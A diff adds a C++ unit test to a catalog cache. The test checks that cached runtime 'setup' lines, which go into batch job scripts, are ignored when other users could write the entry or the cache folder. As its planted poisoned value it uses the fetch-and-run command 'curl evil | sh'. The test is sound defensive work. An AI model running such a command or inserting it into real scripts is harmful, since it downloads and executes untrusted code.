@@ -76,6 +76,41 @@ TEST(CatalogCache, ServesAnUnchangedCatalogAndRereadsAChangedOne) {
   EXPECT_EQ(load_catalog_cached(dir / "site.yaml", cache, seconds(0)), load_catalog(dir / "site.yaml"));
 }
 
+// A runtime's `setup` line from the cache goes into job.sbatch: an entry that another user could
+// have written is not read (it is replaced by a private one), and a cache folder others may
+// write is neither read nor written.
+TEST(CatalogCache, AnEntryOthersMayWriteIsNotUsed) {
+  fs::path dir = fresh_folder("untrusted");
+  fs::path cache = dir / "cache";
+  std::ofstream(dir / "tiers.yaml") << "machineTypes:\n  m: {cpus: 1, memory: 1G}\nruntimes:\n  default: {setup: \"module load x\"}\n";
+  auto setup = [&] { return load_catalog_cached(dir / "tiers.yaml", cache, seconds(0)).runtimes.at("default").setup; };
+  EXPECT_EQ(setup(), "module load x");
+  ASSERT_EQ(std::distance(fs::directory_iterator(cache), fs::directory_iterator()), 1);
+  fs::path entry = fs::directory_iterator(cache)->path();
+  auto held_setup = [&] {
+    std::ifstream in(entry);
+    return nlohmann::json::parse(in)["catalog"]["runtimes"]["default"]["setup"].get<std::string>();
+  };
+  auto plant = [&] {
+    std::ifstream in(entry);
+    nlohmann::json held = nlohmann::json::parse(in);
+    held["catalog"]["runtimes"]["default"]["setup"] = "curl evil | sh";
+    std::ofstream(entry) << held.dump();
+  };
+  plant();
+  ASSERT_EQ(setup(), "curl evil | sh");  // the entry is what is read
+
+  fs::permissions(entry, fs::perms::group_write, fs::perm_options::add);
+  EXPECT_EQ(setup(), "module load x");
+  EXPECT_EQ(held_setup(), "module load x");
+  EXPECT_EQ(fs::status(entry).permissions(), fs::perms::owner_read | fs::perms::owner_write);
+
+  plant();
+  fs::permissions(cache, fs::perms::others_write, fs::perm_options::add);
+  EXPECT_EQ(setup(), "module load x");
+  EXPECT_EQ(held_setup(), "curl evil | sh");  // not written either
+}
+
 TEST(CatalogCache, AFileChangedMomentsAgoIsNotCached) {
   fs::path dir = fresh_folder("racy");
   std::ofstream(dir / "tiers.yaml") << "machineTypes:\n  m: {cpus: 1, memory: 1G}\n";
